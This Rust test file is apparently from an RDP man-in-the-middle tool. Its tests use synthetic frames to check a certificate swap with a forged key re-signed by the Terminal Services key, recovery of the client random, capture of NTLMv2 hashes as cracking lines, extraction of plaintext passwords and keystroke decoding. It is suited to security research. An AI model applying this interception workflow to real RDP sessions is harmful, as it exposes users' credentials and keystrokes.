//! End-to-end scenarios driven against whole synthetic PDUs, exercising the
//! extractor/tamper engine the way the orchestrator would: extract, then
//! tamper, on the same session.

use rdp_mitm_crypto::rsa::{self, KeyPair};
use rdp_mitm_crypto::ts_key::TerminalServicesKey;
use rdp_mitm_proto::extract;
use rdp_mitm_proto::session::Session;
use rdp_mitm_proto::tamper;

/// Build a server MCS Connect Response fragment containing a Proprietary
/// Certificate with a `modulus_bytes`-byte modulus, validly signed with the
/// Terminal Services key.
fn build_server_cert_frame(modulus_bytes: usize) -> Vec<u8> {
    let key = KeyPair::generate(modulus_bytes);
    let modulus = rsa::modulus_to_wire_bytes(&key.public.modulus, modulus_bytes + 8);

    let key_len = (modulus_bytes + 8) as u32;
    let bit_len = key_len * 8 - 64;

    let mut pubkey_blob = Vec::new();
    pubkey_blob.extend_from_slice(b"RSA1");
    pubkey_blob.extend_from_slice(&key_len.to_le_bytes());
    pubkey_blob.extend_from_slice(&bit_len.to_le_bytes());
    pubkey_blob.extend_from_slice(&(modulus_bytes as u32).to_le_bytes()); // data_len
    pubkey_blob.extend_from_slice(&65537u32.to_le_bytes()); // pub_exp
    pubkey_blob.extend_from_slice(&modulus);

    let dw_version = 1u32;
    let dw_sig_alg = 1u32;
    let dw_key_alg = 1u32;
    let pubkey_type = 1u16;
    let pubkey_len = pubkey_blob.len() as u16;

    let mut first5fields = Vec::new();
    first5fields.extend_from_slice(&dw_version.to_le_bytes());
    first5fields.extend_from_slice(&dw_sig_alg.to_le_bytes());
    first5fields.extend_from_slice(&dw_key_alg.to_le_bytes());
    first5fields.extend_from_slice(&pubkey_type.to_le_bytes());
    first5fields.extend_from_slice(&pubkey_len.to_le_bytes());

    let sign_len = 72usize;
    let mut to_sign = first5fields.clone();
    to_sign.extend_from_slice(&pubkey_blob);
    let sign = TerminalServicesKey::sign(&to_sign, sign_len);

    let mut cert = Vec::new();
    cert.extend_from_slice(&first5fields);
    cert.extend_from_slice(&pubkey_blob);
    cert.extend_from_slice(&1u16.to_le_bytes()); // sign_type
    cert.extend_from_slice(&(sign_len as u16).to_le_bytes());
    cert.extend_from_slice(&sign);

    let server_random = vec![0x77u8; 32];

    let mut body = Vec::new();
    body.extend_from_slice(&0u16.to_le_bytes()); // size, unused by the extractor
    body.extend_from_slice(&0u32.to_le_bytes()); // encryption_method
    body.extend_from_slice(&1u32.to_le_bytes()); // encryption_level
    body.extend_from_slice(&(server_random.len() as u32).to_le_bytes());
    body.extend_from_slice(&(cert.len() as u32).to_le_bytes());
    body.extend_from_slice(&server_random);
    body.extend_from_slice(&cert);

    let mut frame = vec![0xAAu8; 10]; // arbitrary leading header bytes
    frame.extend_from_slice(&[0x02, 0x0c]); // SC_SECURITY marker
    frame.extend_from_slice(&body);
    frame
}

#[test]
fn cert_swap_self_consistency() {
    let frame = build_server_cert_frame(56);
    let mut session = Session::new();

    extract::extract_server_cert(&frame, &mut session).expect("valid cert parses");
    assert!(session.crypto.has_server_cert());

    let tampered = tamper::replace_server_cert(&frame, &mut session).expect("cert swap succeeds");

    let mut reparsed = Session::new();
    extract::extract_server_cert(&tampered, &mut reparsed).expect("reissued frame still parses");

    assert_eq!(reparsed.crypto.server_modulus, session.crypto.server_modulus);
    let recomputed = tamper::sign_certificate(
        &[reparsed.crypto.server_first5fields.clone(), reparsed.crypto.server_pubkey_blob.clone()].concat(),
        reparsed.crypto.server_sign.len(),
    );
    assert_eq!(recomputed, reparsed.crypto.server_sign);
}

#[test]
fn client_random_recovery_and_reencryption() {
    let cert_frame = build_server_cert_frame(56);
    let mut session = Session::new();
    extract::extract_server_cert(&cert_frame, &mut session).unwrap();
    tamper::replace_server_cert(&cert_frame, &mut session).unwrap();

    let forged = session.crypto.forged_key.clone().expect("forged key exists after cert swap");
    let client_rand = vec![0x09u8; 32];
    let ciphertext = rsa::encrypt(&client_rand, &forged.public);

    let mut sec_exchange = vec![0u8; 11]; // push the ciphertext length marker past offset 7
    sec_exchange.extend_from_slice(&(ciphertext.len() as u32).to_le_bytes());
    sec_exchange.extend_from_slice(&ciphertext);

    let finding = extract::extract_client_random(&sec_exchange, &mut session);
    assert!(finding.is_some());
    assert_eq!(session.crypto.client_rand, client_rand);
    assert!(session.crypto.session_keys.is_some());

    let tampered = tamper::reencrypt_client_random(&sec_exchange, &session);
    assert_ne!(tampered, sec_exchange);
    assert!(!tampered.windows(ciphertext.len()).any(|w| w == ciphertext.as_slice()));
}

#[test]
fn ntlmv2_capture_produces_cracking_line() {
    let mut session = Session::new();

    let server_challenge = [0x01u8, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef];
    let mut type2 = b"NTLMSSP\x00\x02\x00\x00\x00".to_vec();
    type2.extend_from_slice(&[0u8; 12]);
    type2.extend_from_slice(&server_challenge);
    assert!(extract::extract_server_challenge(&type2, &mut session).is_some());
    assert_eq!(session.captured.server_challenge, Some(server_challenge));

    let user = "alice";
    let domain = "CORP";
    let user_utf16: Vec<u8> = user.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let domain_utf16: Vec<u8> = domain.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let lm_struct = vec![0u8; 16];
    let mut nt_struct = vec![0xEEu8; 16]; // HMAC-MD5
    nt_struct.extend_from_slice(&[0x99u8; 96]); // blob
    let workstation = vec![0u8; 0];
    let encryption_key = vec![0u8; 0];

    let header_len = 12 + 6 * 8; // NTLMSSP marker + 6 security buffers
    let mut payload_offset = header_len;
    let mut fields = Vec::new();
    let mut payload = Vec::new();
    for (len, bytes) in [
        (lm_struct.len(), &lm_struct),
        (nt_struct.len(), &nt_struct),
        (domain_utf16.len(), &domain_utf16),
        (user_utf16.len(), &user_utf16),
        (workstation.len(), &workstation),
        (encryption_key.len(), &encryption_key),
    ] {
        fields.push((len as u16, payload_offset as u32));
        payload.extend_from_slice(bytes);
        payload_offset += len;
    }

    let mut frame = b"NTLMSSP\x00\x03\x00\x00\x00".to_vec();
    for (len, offset) in &fields {
        frame.extend_from_slice(&len.to_le_bytes());
        frame.extend_from_slice(&len.to_le_bytes()); // maxlen, unused
        frame.extend_from_slice(&offset.to_le_bytes());
    }
    frame.extend_from_slice(&payload);

    let line = extract::extract_ntlmv2(&frame, &mut session).unwrap().expect("ntlmv2 message parses");
    assert!(line.starts_with("alice::CORP:0123456789abcdef:"));
    assert_eq!(session.captured.nt_response, Some(nt_struct[..16].try_into().unwrap()));
}

#[test]
fn client_info_credential_leak() {
    let domain = "";
    let user = "bob";
    let password = "Pa$$w0rd";

    let domain_utf16: Vec<u8> = domain.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let user_utf16: Vec<u8> = user.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let pw_utf16: Vec<u8> = password.encode_utf16().flat_map(u16::to_le_bytes).collect();

    let mut frame = vec![0u8; 26];
    frame[15] = 0x40;
    frame.extend_from_slice(&(domain_utf16.len() as u16).to_be_bytes());
    frame.extend_from_slice(&(user_utf16.len() as u16).to_be_bytes());
    frame.extend_from_slice(&(pw_utf16.len() as u16).to_be_bytes());
    frame.resize(37, 0);
    frame.extend_from_slice(&domain_utf16);
    frame.extend_from_slice(&[0, 0]);
    frame.extend_from_slice(&user_utf16);
    frame.extend_from_slice(&[0, 0]);
    frame.extend_from_slice(&pw_utf16);

    let line = extract::extract_client_info(&frame).unwrap().expect("client info parses");
    assert_eq!(line, "\\bob:Pa$$w0rd");
}

#[test]
fn keystroke_decode_press_and_release() {
    assert_eq!(extract::extract_key_press(&[0x44, 0x04, 0x00, 0x1f]).as_deref(), Some("Key press:   S"));
    assert_eq!(
        extract::extract_key_press(&[0x44, 0x04, 0x01, 0x1f]).as_deref(),
        Some("Key release:                 S")
    );
}

#[test]
fn pdu_framer_idempotence() {
    use rdp_mitm_proto::framer::split_pdus;

    let a = build_server_cert_frame(56);
    let mut tpkt_a = vec![0x03u8, 0x00];
    tpkt_a.extend_from_slice(&((a.len() + 4) as u16).to_be_bytes());
    tpkt_a.extend_from_slice(&a);

    let b = vec![0x03u8, 0x00, 0x00, 0x05, 0x42];
    let mut buf = tpkt_a.clone();
    buf.extend_from_slice(&b);

    let parts = split_pdus(&buf);
    assert_eq!(parts, vec![&tpkt_a[..], &b[..]]);
}
